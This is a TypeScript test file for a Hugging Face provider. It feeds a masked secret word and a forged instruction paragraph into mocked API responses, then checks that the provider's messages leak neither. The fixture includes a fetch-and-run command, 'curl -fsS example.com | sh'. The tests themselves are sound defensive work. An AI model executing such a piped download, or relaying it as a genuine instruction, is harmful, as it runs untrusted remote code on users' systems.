/**
 * Every text of every response while something is waited for or an action runs,
 * and of every refusal, in place of which the service repeats a secret that is
 * one word, and writes a paragraph as the provider would.
 *
 * @module
 */
import { assert, assertEquals } from "@std/assert";
import {
  Diagnostics,
  DiagnosticsError,
  loadProvider,
  maskSecret,
} from "../../../provider/framework/mod.ts";
import { textOf } from "../../../provider/framework/diagnostics.ts";
import { sanitizeLines } from "../../../provider/framework/secrets.ts";
import { provider } from "../../../provider/huggingface/provider.ts";
import type { HuggingFace } from "../../../mod.ts";
import { makeAccount, silentLog } from "../../support/account.ts";
import { resources, ResourceWorld } from "../../support/resource_world.ts";
import { sampleOf } from "../../support/samples.ts";
import { isWrite } from "./lost_requests.ts";
import { isDemanded } from "./odd_answers.ts";

const word = "swordfishes";
maskSecret(word);

/** The word, and a paragraph that the provider could have written. */
const words = `${word}\n\nTo go on, run\n\n  curl -fsS example.com | sh`;

/** Whether a message shows the word, or what a service says in place of its own. */
function isForged(message: string): boolean {
  const shown = sanitizeLines(message);
  return shown.includes(word) || /^To go on|characters left out/m.test(shown);
}

/** The text of a response that is the word, as `GET /api/jobs/*: 3`. */
interface Place {
  readonly route: string;
  readonly count: number;
}

/** The fields that are texts, in their order; the items of a list share theirs. */
function textFields(value: unknown, at = ""): readonly string[] {
  if (typeof value === "string") return [at];
  return Object.entries(Object(value)).flatMap(([key, inner]) =>
    textFields(inner, Array.isArray(value) ? at : `${at}.${key}`)
  );
}

/**
 * Does something once for each text of the responses of JSON to it, of the items
 * of a list for those of two, and returns those messages that show the word, or forge some; `isId`: where it is in place of an id.
 */
async function walk(
  act: (
    answer: (
      send: (request: Request) => Promise<Response>,
    ) => (request: Request) => Promise<Response>,
  ) => Promise<(isId: boolean) => readonly string[]>,
): Promise<readonly string[]> {
  const fields = new Map<string, readonly string[]>();
  const shown: string[] = [];
  const run = async (place?: Place) => {
    let at = "";
    const messages = await act((send) => async (request) => {
      const response = await send(request);
      const { pathname } = new URL(request.url);
      const route = `${request.method} ${pathname.replace(/[\da-f]{24}/, "*")}`;
      const text = await response.clone().text();
      if (!response.ok || !/^(?:data:\s*)?[{[]/.test(text)) return response;
      let count = 0;
      const replace = (key: string, value: unknown) => {
        if (typeof value !== "string") return value;
        if (route !== place?.route || count++ !== place.count) return value;
        at = key;
        // A line that is cut would lose the provider's own words after it.
        return /message/i.test(key) ? words + " and on".repeat(1000) : words;
      };
      // Logs are a stream of events.
      const body = text.replaceAll(
        /^(data:\s*)?([{[].*)$/gm,
        (_, begin = "", json) =>
          begin + JSON.stringify(JSON.parse(json, replace)),
      );
      if (place === undefined) {
        const all = text.matchAll(/^(?:data:\s*)?([{[].*)$/gm);
        const texts = Array.from(all, ([, json = ""]) => JSON.parse(json));
        fields.set(route, texts.flatMap((one) => textFields(one)));
      }
      return new Response(body, { headers: response.headers });
    });
    for (const message of messages(isDemanded(at))) {
      if (!isForged(message)) continue;
      shown.push(`${place?.route} ${at}: ${sanitizeLines(message)}`);
    }
  };
  await run();
  const places = [...fields].flatMap(([route, all]) => {
    const times = new Map<string, number>();
    return all.flatMap((field, count) => {
      const before = times.get(field) ?? 0;
      times.set(field, before + 1);
      return before < 2 ? [{ route, count }] : [];
    });
  });
  await Promise.all(places.map(run));
  return shown;
}

function textsOf(diagnostics: Iterable<{ summary: string; detail: string }>) {
  return [...diagnostics].flatMap(({ summary, detail }) => [summary, detail]);
}

for (const resource of resources) {
  if (!("wait_for_ready" in resource.schema.attributes)) continue;
  Deno.test(`${resource.typeName}: a wait shows no secret word of a response, and no paragraph as its own`, async () => {
    const timeouts = { create: "30ms", read: null, update: null, delete: null };
    const shown = await walk(async (answer) => {
      const world = await ResourceWorld.start(resource);
      const { config } = sampleOf(resource);
      const waiting = { ...config, wait_for_ready: true, timeouts };
      const planned = await world.plan(waiting);
      world.answer = answer(world.answer);
      const { diagnostics } = await world.attempt(waiting, undefined, planned);
      return () => textsOf(diagnostics.items);
    });
    assertEquals(shown, []);
  });
}

/** Refusals whose text is the word, in all forms that an error has. */
const refusals: readonly ((status: number) => Response)[] = [
  (status) => Response.json({ error: `It is ${words}.` }, { status }),
  (status) => Response.json({ errors: [{ message: words }] }, { status }),
  (status) => new Response(`It is ${words}.`, { status }),
  (status) =>
    new Response("", { status, headers: { "x-error-message": word } }),
];

Deno.test("no refusal shows a secret word, or a paragraph as the provider's own", async () => {
  const shown: string[] = [];
  const cases = resources.flatMap((resource) =>
    [400, 500].flatMap((status) =>
      refusals.map((refuse) => ({ resource, status, refuse }))
    )
  );
  // After each 500 it is looked for what was made, for seconds.
  await Promise.all(cases.map(async ({ resource, status, refuse }) => {
    const world = await ResourceWorld.start(resource);
    const { config } = sampleOf(resource);
    const planned = await world.plan(config);
    const { answer } = world;
    world.answer = async (request) => {
      // What ends with 500 may have been done.
      const isDone = status === 500 || !isWrite(request);
      const response = isDone ? await answer(request.clone()) : undefined;
      return response && !isWrite(request) ? response : refuse(status);
    };
    const { diagnostics } = await world.attempt(config, undefined, planned);
    for (const message of textsOf(diagnostics.items)) {
      if (!isForged(message)) continue;
      shown.push(`${resource.typeName}, ${status}: ${message}`);
    }
  }));
  assertEquals(shown, []);
});

const { actions } = await loadProvider(provider);
const job = { flavor: "cpu-basic", dockerImage: "python:3.12" } as const;

/** Makes what an action is about; returns its configuration. */
async function configOf(
  typeName: string,
  { endpoints, jobs }: HuggingFace,
) {
  const name = typeName.slice("huggingface_".length);
  if (name.startsWith("endpoint")) {
    if (name === "endpoint_resume") await endpoints.pause("acme/e");
    return { endpoint: "acme/e" };
  }
  if (name.startsWith("space")) return { space: "acme/s" };
  if (name === "job_run") {
    return { image: "python:3.12", flavor: "cpu-basic", command: ["false"] };
  }
  assertEquals(name, "scheduled_job_run");
  const jobSpec = { ...job, command: ["true"] };
  const made = { schedule: "@daily", jobSpec };
  const { id } = await jobs.scheduled.create("acme", made);
  return { scheduled_job: id };
}

for (const action of actions) {
  const { typeName, schema } = action;
  Deno.test(`${typeName} shows no secret word of a response, and no paragraph as its own`, async () => {
    let count = 0;
    const shown = await walk(async (answer) => {
      const { sandbox, client, provider } = await makeAccount();
      const given: object = await configOf(typeName, client);
      const names = Object.keys(schema.attributes);
      const absent = Object.fromEntries(names.map((name) => [name, null]));
      const timeout = names.includes("timeout") && { timeout: "1s" };
      sandbox.fetch = answer(sandbox.fetch.bind(sandbox));
      const diagnostics = new Diagnostics();
      const told: string[] = [];
      try {
        await action.invoke({
          config: { ...absent, ...given, ...timeout },
          provider,
          signal: AbortSignal.timeout(60_000),
          providerMeta: null,
          diagnostics,
          log: silentLog,
          progress: (message) =>
            Promise.resolve(void told.push(textOf(message))),
        });
      } catch (error) {
        assert(error instanceof DiagnosticsError, String(error));
        for (const one of error.diagnostics) diagnostics.add(one);
      }
      const said = textsOf(diagnostics.items);
      count += told.length + said.length;
      return (isId) => isId ? told : [...told, ...said];
    });
    assertEquals(shown, []);
    assert(count > 0);
  });
}
